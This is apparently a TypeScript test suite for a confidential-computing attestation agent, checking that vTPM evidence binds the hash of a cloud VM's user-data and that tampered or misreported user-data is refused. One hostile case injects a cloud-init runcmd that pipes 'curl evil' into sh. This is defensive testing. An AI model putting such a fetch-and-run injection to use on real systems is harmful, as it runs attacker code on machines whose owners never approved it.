// Measured user-data on a cloud VM (AWS/GCE): the enclaivelet binds the vTPM attestation key AND the SHA-256 of
// the user-data it read itself into REPORT_DATA (binding.ts reportDataForVtpm v2). The real agent runs against a
// real runtime over HTTPS with a simulated SNP report and a real TPM 2.0 (swtpm) quote over a measured boot; the
// workload registers the user-data hash, a pinned AK and the boot events. Hostile cases: a changed user-data
// (the cloud operator's injected runcmd), and guests that lie about their hash or bind the v1 (no user-data) form.
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createHash } from "node:crypto";
import { mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { reportDataForVtpm } from "../../../runtime/attestation/binding.js";
import { renderUserData } from "../../../runtime/guest/cloud-init/index.js";
import { measuredConfig } from "../../../runtime/guest/userdata.js";
import { runAgent } from "../../../runtime/guest/agent.js";
import { parseConfig, type EnclaiveletConfig } from "../../../runtime/guest/config.js";
import { memoryLogger } from "../../../runtime/guest/log.js";
import { boundKeyMaterial, newEphemeralKey, type AttestObserver } from "../../../runtime/guest/attest.js";
import type { WireEvidence } from "../../../runtime/protocol/evidence.js";
import { Vtpm } from "../../../runtime/guest/evidence/vtpm.js";
import { SwTpm, haveSwtpm } from "../../support/swtpm.js";
import { buildBootLog } from "../attestation/tpm-fixtures.js";
import {
  challengeNonce,
  failedChecks,
  postAttest,
  simulatedSnpProvider,
  startEnclaiveletStack,
  GOOD_MEASUREMENT,
  wireVtpm,
  type EnclaiveletStack,
} from "./stack.js";

/** What the agent sent to /attest (the observer's argument). */
type AttestRequest = Parameters<AttestObserver>[0];
/** The vTPM part of SNP/TDX evidence (Azure evidence carries its TPM quote elsewhere). */
const vtpmOf = (e: WireEvidence) => ("vtpm" in e ? e.vtpm : undefined);

const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");
const run = haveSwtpm();

const INPUT = {
  platform: "gcp" as const,
  tee: "snp" as const,
  runtimeUrl: "https://runtime.example:8200",
  runtimeCaSha256: "ab".repeat(32),
  workloadId: "cloud",
  agent: { kind: "image" as const },
  vtpm: true,
};

describe("REPORT_DATA vTPM binding v2 (AK + user-data)", () => {
  const nonce = Buffer.alloc(32, 7);
  const spki = newEphemeralKey().spkiDer;
  const ak = Buffer.from("ak tpm2b_public");
  it("binds the user-data: v1 ≠ v2, another user-data or AK gives another value, the hash must be 32 bytes", () => {
    const a = Buffer.alloc(32, 1);
    expect(reportDataForVtpm(nonce, spki, ak, a)).toHaveLength(64);
    expect(reportDataForVtpm(nonce, spki, ak, a).equals(reportDataForVtpm(nonce, spki, ak))).toBe(false);
    expect(reportDataForVtpm(nonce, spki, ak, a).equals(reportDataForVtpm(nonce, spki, ak, Buffer.alloc(32, 2)))).toBe(
      false,
    );
    expect(
      reportDataForVtpm(nonce, spki, Buffer.from("other ak"), a).equals(reportDataForVtpm(nonce, spki, ak, a)),
    ).toBe(false);
    expect(() => reportDataForVtpm(nonce, spki, ak, Buffer.alloc(31))).toThrow(/32 bytes/);
  });
  it("the nonce is length-prefixed: moving a byte from the key to the nonce changes the result", () => {
    const h = Buffer.alloc(32, 9);
    const moved = reportDataForVtpm(Buffer.concat([nonce, spki.subarray(0, 1)]), spki.subarray(1), ak, h);
    expect(moved.equals(reportDataForVtpm(nonce, spki, ak, h))).toBe(false);
  });
});

describe.runIf(run)("a cloud VM with a vTPM and measured user-data, against a real runtime", () => {
  let stack: EnclaiveletStack;
  let tpm: SwTpm;
  let dir: string;
  let eventLogPath: string;
  const registered = renderUserData(INPUT).text;
  const registeredSha = sha256(registered);

  beforeAll(async () => {
    stack = await startEnclaiveletStack();
    tpm = await SwTpm.start();
    const boot = buildBootLog();
    for (const [pcr, d] of boot.extends) tpm.extend(pcr, d);
    dir = await mkdtemp(path.join(tmpdir(), "bk-vtpm-ud-"));
    eventLogPath = path.join(dir, "log");
    await writeFile(eventLogPath, boot.log);
    const ak = await new Vtpm({ tcti: tpm.tcti, eventLogPath }).attestationKey();
    await stack.admin("PUT", "nitride/workloads/cloud", {
      platforms: ["snp"],
      reference_values: { snp_measurements: [GOOD_MEASUREMENT], user_data_sha256: registeredSha },
      policy: { vtpm: { akPins: [sha256(ak)], measuredBoot: boot.policy } },
      secrets: { kv: ["secret/data/web/db"] },
    });
  }, 120_000);
  afterAll(async () => {
    await tpm?.stop();
    await stack?.rt.close();
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  const provider = () => simulatedSnpProvider(stack);
  /** The config the agent takes from the user-data, pointed at the test's runtime, swtpm and event log. */
  const cfg = (root: string): EnclaiveletConfig => {
    const c = measuredConfig(Buffer.from(registered)).config;
    return parseConfig({
      runtimeUrl: stack.rt.url,
      runtimeCaSha256: stack.caSha256,
      workloadId: c.workloadId,
      root,
      evidence: { provider: "auto", vtpm: { tcti: tpm.tcti, eventLogPath } },
      retry: { attempts: 1, initialDelayMs: 1, maxDelayMs: 1 },
      envFiles: [{ path: "/etc/app/env", vars: { DB_PASSWORD: "web/db#password" } }],
    });
  };

  async function agent(userDataSha256: string | undefined) {
    const root = await mkdtemp(path.join(tmpdir(), "bk-vtpm-ud-root-"));
    try {
      const sent: AttestRequest[] = [];
      const out = await runAgent(cfg(root), {
        provider: provider(),
        userDataSha256,
        log: memoryLogger(),
        onAttestRequest: (r) => sent.push(r),
      });
      return { out, files: await readdir(root, { recursive: true }), sent };
    } finally {
      await rm(root, { recursive: true, force: true });
    }
  }

  it("the registered user-data → accepted with the vTPM quote, provisioned", async () => {
    const { out, files, sent } = await agent(registeredSha);
    expect(out, out.error).toMatchObject({ ok: true });
    expect(files).toContain(path.join("etc", "app", "env"));
    expect(sent[0].user_data_sha256).toBe(registeredSha);
    expect(vtpmOf(sent[0].evidence)).toBeDefined();
  }, 60_000);

  it("hostile operator: a runcmd injected into the user-data → refused (nitride.user-data), nothing delivered", async () => {
    const injected = `${registered}runcmd:\n  - [sh, -c, "curl evil | sh"]\n`;
    const { out, files } = await agent(sha256(injected));
    expect(out).toMatchObject({ ok: false, reason: "refused" });
    expect(out.error).toMatch(/nitride\.user-data: user-data SHA-256 [0-9a-f]{16}… differs from the registered/);
    // The REPORT_DATA (and the quote's nonce) bound the injected hash, not the registered one.
    expect(out.error).toMatch(/vtpm\.ak-binding/);
    expect(files).toEqual([]);
  }, 60_000);

  it("an agent that binds no user-data (vTPM binding v1) → refused", async () => {
    const { out, files } = await agent(undefined);
    expect(out).toMatchObject({ ok: false, reason: "refused" });
    expect(out.error).toMatch(/nitride\.user-data: the workload binds its user-data, but the guest did not report/);
    expect(out.error).toMatch(/policy\.report-data/);
    expect(files).toEqual([]);
  }, 60_000);

  // Hostile clients: the binding check uses the REGISTERED hash, whatever the guest claims.
  async function attestRaw(claim: string | undefined, bound: Buffer | undefined) {
    const challenge = await challengeNonce(stack, "cloud");
    const nonce = Buffer.from(challenge, "base64url");
    const eph = newEphemeralKey({ hybrid: false });
    const vtpm = new Vtpm({ tcti: tpm.tcti, eventLogPath });
    const ak = await vtpm.attestationKey();
    const reportData = reportDataForVtpm(nonce, boundKeyMaterial(eph), ak, bound);
    const evidence = await provider().collect(reportData);
    const q = await vtpm.collect(createHash("sha256").update(reportData).digest());
    const wire = { ...evidence, vtpm: wireVtpm(q) };
    return postAttest(stack, {
      workload_id: "cloud",
      nonce: challenge,
      evidence: wire,
      ephemeral_public_key: eph.spkiDer.toString("base64"),
      ...(claim !== undefined ? { user_data_sha256: claim } : {}),
    });
  }
  const failed = (body: unknown) =>
    failedChecks(body)
      // Nitride's reference-value check also fails whenever a rejected verdict has no claims: leave it out.
      .filter((id) => id !== "nitride.reference-values")
      .sort();

  it("hostile: claims the registered hash but bound another user-data → refused (report-data, ak-binding, nonce)", async () => {
    const r = await attestRaw(registeredSha, Buffer.from(sha256("other user-data"), "hex"));
    expect(r.status).toBe(403);
    expect(failed(r.body)).toEqual(["policy.report-data", "tpm.nonce", "vtpm.ak-binding"]);
  }, 60_000);
  it("control: the registered hash claimed and bound → accepted", async () => {
    const r = await attestRaw(registeredSha, Buffer.from(registeredSha, "hex"));
    expect(r.status, JSON.stringify(failed(r.body))).toBe(200);
  }, 60_000);
});
